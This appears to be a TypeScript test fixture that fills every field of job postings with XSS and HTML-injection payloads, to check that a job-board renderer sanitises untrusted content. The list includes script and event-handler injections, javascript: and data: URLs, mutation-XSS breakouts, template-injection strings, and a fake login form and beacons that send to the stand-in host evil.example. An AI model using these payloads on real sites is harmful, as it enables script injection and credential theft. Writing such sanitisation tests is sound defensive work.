import type { TestPosting } from '../support/postings.ts';

const BEACON = 'https://evil.example/beacon';

/** What boards might send to run in a reader's browser, to call home, or to break out of the place it stands in. */
const ATTACKS: readonly string[] = [
  `<script>alert(1)</script>`,
  `<img src="${BEACON}" onerror="alert(2)">`,
  `<svg onload="alert(3)"><script href="${BEACON}"/></svg>`,
  `<iframe src="${BEACON}" srcdoc="<script>parent.alert(4)</script>"></iframe>`,
  `<a href="javascript:alert(5)">apply</a>`,
  `<a href=" java&#x0A;script:alert(6)">apply</a>`,
  `<a href="data:text/html,<script>alert(7)</script>">apply</a>`,
  `<form action="${BEACON}"><input name="password"><button>Log in</button></form>`,
  `<style>@import url(${BEACON}); body { display: none }</style>`,
  `<p style="background: url(${BEACON})" onmouseover="alert(8)">styled</p>`,
  `<link rel="stylesheet" href="${BEACON}"><base href="${BEACON}/"><meta http-equiv="refresh" content="0; url=${BEACON}">`,
  `<object data="${BEACON}"></object><embed src="${BEACON}"><video src="${BEACON}" autoplay></video>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(9)&gt;">`,
  `<noscript><p title="</noscript><img src=x onerror=alert(10)>">`,
  `<details open ontoggle="alert(11)"><summary>more</summary></details>`,
  `"><script>alert(12)</script><x y="`,
  `'--></style></script></title></textarea><script>alert(13)</script>`,
  `&lt;script&gt;alert(14)&lt;/script&gt;`,
  `<template><img src=x onerror=alert(15)></template>`,
  `]]><script>alert(16)</script>`,
  `<input autofocus onfocus="alert(17)">`,
  `<a href="//evil.example/protocol-relative" ping="${BEACON}">apply</a>`,
  '\u202egnp.exe \u0000\u0008\ud800 <b onclick="alert(18)">',
  `\${alert(19)} {{constructor.constructor('alert(20)')()}}`,
];

/** A posting that is one attack in every field a board can fill. The rows are written as they are: no reader of boards stands in between. */
export function hostilePostings(): TestPosting[] {
  return ATTACKS.map((attack, i) => {
    const text = attack.replaceAll('\u0000', '').toWellFormed();
    const span = { field: 'text' as const, start: 0, end: Math.min(12, text.length), text: text.slice(0, 12) };
    return {
      id: `hostile${i}`,
      title: `Reviewer ${text}`,
      company: `Employer ${text}`,
      html: `<p>Before</p>${text}<p>After</p>`,
      text,
      url: `javascript:alert("url ${i}")`,
      apply_url: i % 2 === 0 ? `data:text/html,${encodeURIComponent(text)}` : `https://jobs.example/"><script>alert(21)</script>`,
      places: [{ raw: text, city: text, region: null, country: null }],
      paths: ['sales'],
      roles: ['business-development'],
      verdicts: { OT: 'named', OTA: 'barred' },
      evidence: { OT: [span], OTA: [span, { ...span, field: 'title' }] },
      facets: { certifications: [{ name: text, need: 'required' }], states: [text] },
      first_seen: new Date(Date.now() - i * 60_000).toISOString(),
    };
  });
}
